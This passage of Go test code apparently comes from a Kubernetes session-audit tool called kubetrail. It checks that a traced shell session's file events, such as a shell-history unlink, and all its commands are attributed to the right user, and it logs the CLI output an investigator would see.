		p = append(p, fmt.Sprintf("trace of john.doe's shell: no unlink of /root/.ash_history; file events: %s", summary(tr.Events, "file")))
	}
	// Every command, connection and file change carries who started the session.
	for _, e := range tr.Events {
		if cat := str(e, "evt.category"); cat == "k8s" {
			continue
		}
		if u := str(e, "ka.user.name"); u != "john.doe" {
			p = append(p, fmt.Sprintf("trace of john.doe's shell: event %s %s %v has ka.user.name %q", str(e, "evt.id"), str(e, "evt.type"), strs(e, "proc.argv"), u))
			break
		}
	}
	return p
}

func execSummary(events []map[string]any) string {
	var out []string
	for _, e := range events {
		if str(e, "evt.type") == "execve" {
			out = append(out, fmt.Sprintf("%s%v", str(e, "proc.name"), strs(e, "proc.argv")))
		}
	}
	return strings.Join(out, " ")
}

func summary(events []map[string]any, category string) string {
	var out []string
	for _, e := range events {
		if str(e, "evt.category") == category {
			out = append(out, fmt.Sprintf("%s %s %s %s", str(e, "evt.type"), str(e, "fd.name"), str(e, "fs.path.name"), str(e, "evt.res")))
		}
	}
	if len(out) == 0 {
		return "(none)"
	}
	return strings.Join(out, "; ")
}

// show logs what an investigator would see, for the record of the run.
func (c *cluster) show(sc *scenario) {
	run := func(args ...string) string {
		cmd := exec.Command(c.kubetrailBin, args...)
		cmd.Env = append(os.Environ(), "KUBETRAIL_SERVER="+c.serverURL, "KUBETRAIL_TOKEN="+c.serverToken, "KUBETRAIL_CA_FILE="+c.pki.caFile(), "HOME="+c.path("home"))
		out, _ := cmd.CombinedOutput()
		return string(out)
	}
	c.t.Logf("$ kubetrail sessions --since 1h 'k8s.ns.name = %s'\n%s", namespace, run("sessions", "--since", "1h", "k8s.ns.name = "+namespace))
	johns, err := c.sessions("ka.user.name = john.doe")
	if err != nil {
		return
	}
	s := findSession(johns, func(s *sessionJSON) bool { return slices.Equal(s.EntryArgv, sc.seedArgv) })
	if s == nil {
		s, _ = c.sessionStartedBy(sc.pod, sc.seedArgv)
	}
	if s != nil {
		c.t.Logf("$ kubetrail session %s\n%s", s.ID, run("session", s.ID))
	}
}
